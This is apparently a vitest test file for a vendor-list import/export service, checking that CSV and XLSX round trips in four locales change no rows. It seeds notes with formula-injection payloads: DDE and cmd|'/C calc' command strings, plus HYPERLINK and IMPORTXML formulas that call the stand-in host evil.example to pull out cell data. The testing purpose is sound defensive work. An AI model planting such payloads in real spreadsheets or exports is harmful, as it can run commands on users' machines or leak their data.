import { beforeEach, describe, expect, test } from 'vitest';
import { listImporter } from '../../../test/list-imports.ts';
import { listUser, rowOf } from '../../../test/staff-list.ts';
import { createTestApp, type TestApp } from '../../../test/test-app.ts';

let service: TestApp;
beforeEach(async () => {
  service = await createTestApp();
});

const starts = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '"=', "'=", "''=", "'", "'x"];
const bodies = [
  "cmd|'/C calc'!A0",
  'HYPERLINK("http://evil.example","x")',
  'IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
  '1+1; DDE("cmd";"/C calc";"x")',
  'two\nlines, 2026-11-20, 1,5',
];
const payloads = starts.flatMap((start) => bodies.map((body) => `${start}${body}`));

/** Rows of each list that are worth a round: what a spreadsheet could spoil. */
const lists: Record<string, () => Promise<void>> = {
  vendors: async () => {
    const office = await listUser(service, 'vendors');
    const names = { ru: '=1+1', en: '0042', zh: '-1', tg: "'@x" };
    const fields = { kind: 'BROKER', names, businessLine: 'FBA', countryCode: 'TJ', contact: '2026-11-20' };
    const house = rowOf(
      await office.create({
        ...fields,
        code: 'HOUSE',
        parentId: null,
        phone: '+992927001122',
        note: null,
        enabled: false,
      }),
    );
    for (const [at, note] of payloads.entries())
      rowOf(
        await office.create({
          ...fields,
          code: `PAYLOAD-${at}`,
          parentId: house.id,
          phone: null,
          note,
          enabled: true,
        }),
      );
  },
  countries: async () => undefined,
};

describe.each(Object.keys(lists))('the own file of %s', (name) => {
  test('T13: changes nothing, in any language and form', async () => {
    await lists[name]?.();
    const office = await listImporter(service, name);
    const { total } = await office.find();
    expect(total).toBeGreaterThan(0);
    for (const locale of ['ru', 'en', 'zh', 'tg'])
      for (const format of ['csv', 'xlsx'] as const) {
        const file = await office.upload(await office.saved(format, locale), { locale: 'ru' });
        expect(file).toMatchObject({
          rows: total,
          unknownColumns: [],
          counts: { new: 0, changed: 0, unchanged: total, refused: 0 },
        });
      }
  });
});
